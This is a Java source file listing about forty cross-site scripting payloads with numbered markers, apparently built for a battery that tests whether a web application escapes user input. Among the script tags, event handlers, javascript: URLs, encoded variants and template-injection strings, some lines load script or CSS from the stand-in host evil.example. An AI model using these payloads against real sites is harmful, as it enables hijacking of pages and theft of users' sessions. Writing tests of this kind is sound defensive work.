package org.aidnews.reliability.web;

import java.util.ArrayList;
import java.util.List;

/**
 * Cross-site scripting payloads, each carrying its own marker {@code xssN} so a probe can tell
 * which payload produced an element or attribute. Written for this battery: script tags, event
 * handlers, {@code javascript:} URLs, attribute and tag breakers, entity-encoded and mixed-case
 * variants, {@code </script>}, U+2028, SVG and MathML, CSS, meta refresh, and CJK text mixed in.
 */
public final class XssPayloads {
  private XssPayloads() {}

  /** The marker of payload {@code i}. */
  public static String marker(int i) {
    return "xss" + i;
  }

  public static List<String> all() {
    String[] templates = {
        "<script>alert('%s')</script>",
        "<SCRIPT SRC=//evil.example/%s.js></SCRIPT>",
        "<img src=x onerror=alert('%s')>",
        "<svg onload=alert('%s')>",
        "<svg><script>alert('%s')</script></svg>",
        "\"><x-%s>",
        "'><x-%s onclick=1>",
        "\" onmouseover=\"alert('%s')\" x=\"",
        "' autofocus onfocus='alert(\"%s\")' x='",
        "javascript:alert('%s')",
        "<a href=\"javascript:alert('%s')\">医院</a>",
        "<a href=\"JaVaScRiPt:alert('%s')\">援疆</a>",
        "&lt;img src=x onerror=alert('%s')&gt;",
        "&#60;script&#62;alert('%s')&#60;/script&#62;",
        "&#x3C;svg onload=alert('%s')&#x3E;",
        "</script><script>alert('%s')</script>",
        "</title><script>alert('%s')</script>",
        "</textarea><x-%s>",
        "<iframe srcdoc=\"<script>alert('%s')</script>\"></iframe>",
        "<iframe src=javascript:alert('%s')>",
        "<body onload=alert('%s')>",
        "<details open ontoggle=alert('%s')>",
        "<math><mtext><x-%s></mtext></math>",
        "<style>@import 'http://evil.example/%s.css';</style>",
        "<div style=\"background:url(javascript:alert('%s'))\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('%s')\">",
        "<base href=\"//evil.example/%s/\">",
        "<object data=\"javascript:alert('%s')\"></object>",
        "<form action=javascript:alert('%s')><button>援藏</button></form>",
        "\u2028<x-%s>\u2029alert('\u2028')",
        "医疗援疆<img src=x onerror=alert('%s')>对口支援",
        "醫療援疆\"><svg/onload=alert('%s')>專科聯盟",
        "{{constructor.constructor('alert(\"%s\")')()}}",
        "${alert('%s')}",
        "<!--<x-%s>-->",
        "<scr<script>ipt>alert('%s')</scr</script>ipt>",
        "%%3Cscript%%3Ealert('%s')%%3C/script%%3E",
        "<input value=\"\" onfocus=alert('%s') autofocus>",
        "<video><source onerror=\"alert('%s')\"></video>",
        "\\\"</script><x-%s>",
    };
    List<String> list = new ArrayList<>();
    for (int i = 0; i < templates.length; i++) {
      list.add(String.format(java.util.Locale.ROOT, templates[i], marker(i)));
    }
    return List.copyOf(list);
  }
}
